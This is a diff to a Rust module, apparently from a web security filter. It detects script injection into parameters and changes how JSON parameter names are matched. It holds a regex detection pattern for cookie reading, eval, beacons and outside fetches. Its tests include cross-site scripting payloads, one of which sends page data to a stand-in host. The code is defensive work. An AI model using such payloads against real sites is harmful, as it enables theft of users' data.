@@ -2,8 +2,8 @@
 //! scripts do what pages do. A page is no piece of another one, and where a parameter takes whole pages,
 //! that they load scripts is no news.
 
+use super::event::is_event;
 use super::markup::find;
-use super::script::is_event;
 use crate::decode::Value;
 use crate::inspect::Part;
 use regex::bytes::{Regex, RegexBuilder};
@@ -17,8 +17,8 @@ const END: usize = 64;
 
 /// What the names of parameters hold that take pages, in JSON and in forms.
 const TAKING: [&[u8]; 4] = [b"html", b"layout", b"markup", b"template"];
-/// The same in JSON alone.
-const OFTEN: [&[u8]; 5] = [b"body", b"content", b"page", b"source", b"value"];
+/// Words among those of names in JSON that take anything, pages as well.
+const OFTEN: [&[u8]; 4] = [b"body", b"content", b"page", b"source"];
 
 /// What is put into others' pages and a page of one's own need not do: read what a browser keeps, call by
 /// another name, lead away, hide.
@@ -26,7 +26,7 @@ const SPYING: &str = concat!(
     "\\bcookie\\b|\\b(?:alert|confirm|eval|prompt)\\b|\\b(?:atob|import|settimeout)\\s*[(`]\\s*[^f(]|\\bsendbeacon\\b",
     "|\\bfetch\\s*\\(\\s*(?:['\"](?:https?:)?//|`)|fromcharcode|tostring\\s*\\(\\s*3|\\bsrcdoc\\b",
     "|\\b(?:local|session)storage\\b|\\bnew\\s*\\(|\\bnew\\s+(?:function|image)\\b|\\bfunction\\s*\\(\\s*['\"`]",
-    "|\\b(?:document|frames|globalthis|navigator|parent|self|top|window)\\s*\\[|\\blocation(?:\\.href)?\\s*=[^=]",
+    "|\\b(?:document|frames|globalthis|navigator|parent|self|top|window)\\s*\\[|\\blocation(?:\\.href)?\\s*=[^=]|\\blocation\\.(?:assign|replace)\\s*\\(",
     "|(?:java|vb)script:|data:text/html|<(?:base|object|embed|applet)\\b|http-equiv\\s*=\\s*[\"']?\\s*refresh",
     "|<script[^>]*\\bsrc\\s*=\\s*[^\"'\\s]",
 );
@@ -43,16 +43,31 @@ pub fn is_page(value: &Value<'_>) -> bool {
 
 /// JSON, forms and bodies, under a name for it.
 fn takes_pages(value: &Value<'_>) -> bool {
-    let known = |words: &[&[u8]]| {
-        let mut names = value.name.rsplit(|b| *b == b'.').take(2);
-        names.any(|name| words.iter().any(|word| find(name, word)))
-    };
+    let mut names = value.name.rsplit(|b| *b == b'.').take(2);
+    let takes = |name: &[u8]| TAKING.iter().any(|word| find(name, word));
     match value.part {
         Part::Body => value.name.is_empty(),
-        Part::Json => known(&TAKING) || known(&OFTEN),
-        Part::Form => known(&TAKING),
+        Part::Json => names.any(|name| takes(name) || words(name).any(is_often)),
+        Part::Form => names.any(takes),
         _ => false,
     }
+}
+
+fn is_often(word: &[u8]) -> bool {
+    OFTEN.iter().any(|often| word.eq_ignore_ascii_case(often))
+}
+
+/// The words of a name: `pageContent`, `response_body`.
+fn words(name: &[u8]) -> impl Iterator<Item = &[u8]> {
+    let starts = |before: &u8, byte: &u8| {
+        !byte.is_ascii_alphanumeric() || byte.is_ascii_uppercase() && !before.is_ascii_uppercase()
+    };
+    name.chunk_by(move |before, byte| !starts(before, byte))
+        .map(|word| {
+            word.strip_prefix(b"_")
+                .or(word.strip_prefix(b"-"))
+                .unwrap_or(word)
+        })
 }
 
 /// Tells a document from its type or root to the root's end, with a title or a character set.
@@ -129,8 +144,15 @@ mod tests {
             assert!(is_one(Part::Json, b"data.html", &page), "{script}");
             assert!(is_one(Part::Form, b"HtmlBody", &page), "{script}");
             assert!(is_one(Part::Body, b"", &page), "{script}");
+            assert!(
+                is_one(Part::Json, b"pages.response_body", &page),
+                "{script}"
+            );
+            assert!(is_one(Part::Json, b"page.sourceText", &page), "{script}");
             let others = [
                 (Part::Json, &b"comment"[..]),
+                (Part::Json, b"homepage"),
+                (Part::Json, b"resources.value"),
                 (Part::Form, b"content"),
                 (Part::Query, b"html"),
             ];
@@ -155,6 +177,7 @@ mod tests {
             "<script>window['al'+'ert'](1)</script>",
             "<script>eval.call(0, name)</script>",
             "<script>setTimeout(name)</script>",
+            "<script>location.replace('//a.example/?'+document.title)</script>",
             "<meta http-equiv=refresh content='0;url=//a.example'>",
             "<base href=//a.example>",
             "<a href=\"javascript:go()\">x</a>",
